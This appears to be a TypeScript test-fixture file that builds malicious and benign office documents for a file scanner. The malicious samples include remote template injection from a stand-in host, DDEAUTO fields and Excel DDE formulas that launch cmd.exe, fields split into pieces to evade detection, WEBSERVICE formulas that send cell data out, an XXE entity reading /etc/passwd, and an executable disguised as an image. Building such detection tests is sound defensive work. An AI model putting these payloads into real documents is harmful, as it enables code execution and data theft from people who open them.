import { docxOf, fieldOf, odsOf, relationship, relationships, xlsxOf } from '../make-office.ts';
import type { Make } from './make.ts';

const settings = 'word/_rels/settings.xml.rels';
const ofDocument = 'word/_rels/document.xml.rels';
const outside = 'TargetMode="External"';
const oldDocument = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(64)]);
const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le');

const docxWith = (part: string, ...inside: string[]) =>
  docxOf(undefined, relationships(part, ...inside));

const cell = (formula: string) => `<table:table-cell table:formula="${formula}"/>`;

/** Office files that run or fetch something, and office files as they are sent every day. */
export const officeFiles: Readonly<Record<string, Make>> = {
  'docx template from elsewhere': () =>
    docxWith(settings, relationship('attachedTemplate', 'https://jahat.example/a.dotm', outside)),
  'docx template, mode in numbers': () =>
    docxWith(
      settings,
      relationship('attachedTemplate', 'https://jahat.example/a.dotm', 'TargetMode="Extern&#97;l"'),
    ),
  'docx template in wide letters': () =>
    docxOf(undefined, {
      name: settings,
      content: utf16(
        `<?xml version="1.0" encoding="UTF-16"?><Relationships>${relationship('attachedTemplate', 'http://jahat.example/a', outside)}</Relationships>`,
      ),
    }),
  'docx page as an object': () =>
    docxWith(ofDocument, relationship('oleObject', 'mhtml:http://jahat.example/a.html!x', outside)),
  'docx picture that tells who reads': () =>
    docxWith(ofDocument, relationship('image', 'https://jahat.example/1.gif', outside)),
  'docx page brought in': () =>
    docxOf(
      '<w:altChunk r:id="rId1"/>',
      relationships(ofDocument, relationship('aFChunk', 'a.mht')),
      { name: 'word/a.mht', content: 'MIME-Version: 1.0' },
    ),
  'docx link to a share': () =>
    docxWith(ofDocument, relationship('hyperlink', 'file://203.0.113.9/a/b.exe', outside)),
  'docx object': () =>
    docxOf(undefined, { name: 'word/embeddings/oleObject1.bin', content: oldDocument }),
  'docx object under another name': () =>
    docxOf(undefined, { name: 'word/media/image1.emf', content: oldDocument }),
  'docx program inside': () =>
    docxOf(undefined, { name: 'word/media/image1.png', content: 'MZ\x90\0' }),
  'docx controls': () =>
    docxOf(undefined, { name: 'word/activeX/activeX1.xml', content: '<ax:ocx/>' }),
  'docx macros': () => docxOf(undefined, { name: 'word/vbaProject.bin', content: oldDocument }),
  'docx command in a field': () =>
    docxOf(fieldOf('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;')),
  'docx command in pieces': () => docxOf(fieldOf(' D', 'DE', 'AU', 'TO cmd.exe /k calc')),
  'docx command in a simple field': () =>
    docxOf('<w:fldSimple w:instr="DDE cmd.exe /k calc"><w:r/></w:fldSimple>'),
  'docx field that fetches': () =>
    docxOf(fieldOf('INCLUDETEXT &quot;https://jahat.example/&quot;')),
  'docx own words of xml': () =>
    docxOf(undefined, {
      name: 'word/styles.xml',
      content: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    }),
  'xlsx command in a formula': () => xlsxOf("cmd|'/c calc'!A0"),
  'xlsx formula that sends': () => xlsxOf('_xlfn.WEBSERVICE("https://jahat.example/"&amp;A1)'),
  'xlsx other table': () =>
    xlsxOf(undefined, [
      {
        name: 'xl/externalLinks/externalLink1.xml',
        content: '<externalLink><ddeLink/></externalLink>',
      },
    ]),
  'xlsx data source': () =>
    xlsxOf(undefined, [{ name: 'xl/connections.xml', content: '<connections/>' }]),
  'xlsx macros of old': () =>
    xlsxOf(
      undefined,
      [{ name: 'xl/worksheets/sheet2.xml', content: '<xm:macrosheet/>' }],
      ['application/vnd.ms-excel.macrosheet+xml'],
    ),
  'ods command in a formula': () =>
    odsOf(cell('of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)')),
  'ods formula that sends': () => odsOf(cell('of:=WEBSERVICE(&quot;https://jahat.example/&quot;)')),
  'ods macro on opening': () =>
    odsOf(
      '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x.py$y?language=Python"/>',
    ),
  'ods picture from elsewhere': () =>
    odsOf('<draw:image xlink:href="https://jahat.example/1.gif"/>'),
  'ods link that runs': () =>
    odsOf('<text:a xlink:href="macro:///Standard.Modul.Main">Klik</text:a>'),
  'ods object': () => odsOf('<draw:object-ole xlink:href="./Object 1"/>'),

  docx: () => docxOf(),
  xlsx: () => xlsxOf(),
  ods: () => odsOf(),
  'docx with a link': () =>
    docxWith(ofDocument, relationship('hyperlink', 'https://palukota.go.id/', outside)),
  'docx with a mail address': () =>
    docxWith(ofDocument, relationship('hyperlink', 'mailto:humas@palukota.go.id', outside)),
  'docx with page numbers': () => docxOf(fieldOf(' PAGE ', '\\* MERGEFORMAT')),
  'docx with a table of contents': () => docxOf(fieldOf(' TOC \\o &quot;1-3&quot; \\h ')),
  'docx on commands': () =>
    docxOf('<w:p><w:r><w:t>DDEAUTO dan TargetMode="External"</w:t></w:r></w:p>'),
  'docx with a picture from the web that is kept': () =>
    docxOf(fieldOf('INCLUDEPICTURE &quot;https://contoh.example/a.png&quot; \\* MERGEFORMATINET')),
  'docx with a link by name': () =>
    docxOf(fieldOf('HYPERLINK &quot;https://palukota.go.id/&quot;')),
  'docx with own words': () =>
    docxOf(undefined, {
      name: 'docProps/core.xml',
      content: '<dc:creator>Dinas Kesehatan</dc:creator>',
    }),
  'docx with a chart': () =>
    docxOf(undefined, { name: 'word/embeddings/Tabel.xlsx', content: xlsxOf() }),
  'xlsx in wide letters': () =>
    xlsxOf(undefined, [
      {
        name: 'xl/styles.xml',
        content: utf16('<?xml version="1.0" encoding="UTF-16"?><styleSheet/>'),
      },
    ]),
  'xlsx with a calling link': () => xlsxOf('HYPERLINK("https://palukota.go.id/","Portal")'),
  'xlsx with settings of a printer': () =>
    xlsxOf(undefined, [
      { name: 'xl/printerSettings/printerSettings1.bin', content: Buffer.alloc(64) },
    ]),
  'ods with a formula': () => odsOf(cell('of:=SUM([.A1:.A9])')),
  'ods with a link': () => odsOf('<text:a xlink:href="https://palukota.go.id/">Portal</text:a>'),
  'ods with a picture': () => odsOf('<draw:image xlink:href="Pictures/100.png"/>'),
};
